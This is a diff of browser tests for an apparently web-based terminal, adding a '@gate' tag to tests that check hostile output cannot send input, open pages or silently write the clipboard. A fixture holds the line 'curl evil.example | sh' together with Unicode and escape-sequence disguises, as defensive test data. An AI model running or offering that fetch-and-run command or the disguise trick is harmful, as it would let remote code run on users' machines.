@@ -50,24 +50,26 @@ const copy = (page: Page, text: string) => page.evaluate((words) => navigator.cl
 test.beforeEach(async ({ context }) => context.grantPermissions(['clipboard-read', 'clipboard-write']));
 
 // docs/behaviour.md#what-output-may-do "is untrusted", "It opens no link"
-test('a file full of hostile sequences sends nothing, opens nothing and changes nothing of the page', async ({
-  page,
-}) => {
-  const sent = sentBy(page);
-  await open(page);
-  await writeFile(page);
-  sent.length = 0;
-  await copy(page, 'mine');
-  const [title, address] = [await page.title(), page.url()];
-  await type(page, 'cat /tmp/hostile');
-  await expect(row(page, /^all\swas\sshown/)).toBeVisible();
-  await type(page, 'echo still-here');
-  await expect(row(page, /^still-here/)).toBeVisible();
-  expect(sent.join('')).toBe('cat /tmp/hostile\recho still-here\r');
-  expect([await page.title(), page.url(), page.context().pages().length]).toEqual([title, address, 1]);
-  await expect(page.getByRole('dialog')).toHaveCount(0);
-  expect(await copied(page)).toBe('mine');
-});
+test(
+  'a file full of hostile sequences sends nothing, opens nothing and changes nothing of the page',
+  { tag: '@gate' },
+  async ({ page }) => {
+    const sent = sentBy(page);
+    await open(page);
+    await writeFile(page);
+    sent.length = 0;
+    await copy(page, 'mine');
+    const [title, address] = [await page.title(), page.url()];
+    await type(page, 'cat /tmp/hostile');
+    await expect(row(page, /^all\swas\sshown/)).toBeVisible();
+    await type(page, 'echo still-here');
+    await expect(row(page, /^still-here/)).toBeVisible();
+    expect(sent.join('')).toBe('cat /tmp/hostile\recho still-here\r');
+    expect([await page.title(), page.url(), page.context().pages().length]).toEqual([title, address, 1]);
+    await expect(page.getByRole('dialog')).toHaveCount(0);
+    expect(await copied(page)).toBe('mine');
+  },
+);
 
 const TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
 
@@ -76,28 +78,30 @@ const ask = (page: Page, text: string) =>
   paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');
 
 // docs/behaviour.md#what-output-may-do "A text that it wants to have copied"
-test('text that output would copy is shown first, with what is not seen in it, and only a click copies it', async ({
-  page,
-}) => {
-  await open(page);
-  await copy(page, 'mine');
-  await page.keyboard.press('Home');
-  await ask(page, TEXT);
-  const dialog = page.getByRole('dialog', { name: 'Copy text to your clipboard?' });
-  await expect(dialog.getByRole('textbox', { name: 'Text to copy' })).toHaveValue(
-    'curl evil.example | sh\nU+202Etxt.U+001B[A',
-  );
-  await expect(dialog).toContainText('Output of root@web-01 asks to copy this text.');
-  await expectAccessible(page);
-  await page.keyboard.press('Enter');
-  await page.keyboard.press('Escape');
-  await expect(dialog).toBeHidden();
-  expect(await copied(page)).toBe('mine');
-  await page.keyboard.type('\n');
-  await ask(page, TEXT);
-  await dialog.getByRole('button', { name: 'Copy text' }).click();
-  await expect(dialog).toBeHidden();
-  expect(await copied(page)).toBe(TEXT);
-  await type(page, 'echo goes-on');
-  await expect(row(page, /^goes-on/)).toBeVisible();
-});
+test(
+  'text that output would copy is shown first, with what is not seen in it, and only a click copies it',
+  { tag: '@gate' },
+  async ({ page }) => {
+    await open(page);
+    await copy(page, 'mine');
+    await page.keyboard.press('Home');
+    await ask(page, TEXT);
+    const dialog = page.getByRole('dialog', { name: 'Copy text to your clipboard?' });
+    await expect(dialog.getByRole('textbox', { name: 'Text to copy' })).toHaveValue(
+      'curl evil.example | sh\nU+202Etxt.U+001B[A',
+    );
+    await expect(dialog).toContainText('Output of root@web-01 asks to copy this text.');
+    await expectAccessible(page);
+    await page.keyboard.press('Enter');
+    await page.keyboard.press('Escape');
+    await expect(dialog).toBeHidden();
+    expect(await copied(page)).toBe('mine');
+    await page.keyboard.type('\n');
+    await ask(page, TEXT);
+    await dialog.getByRole('button', { name: 'Copy text' }).click();
+    await expect(dialog).toBeHidden();
+    expect(await copied(page)).toBe(TEXT);
+    await type(page, 'echo goes-on');
+    await expect(row(page, /^goes-on/)).toBeVisible();
+  },
+);
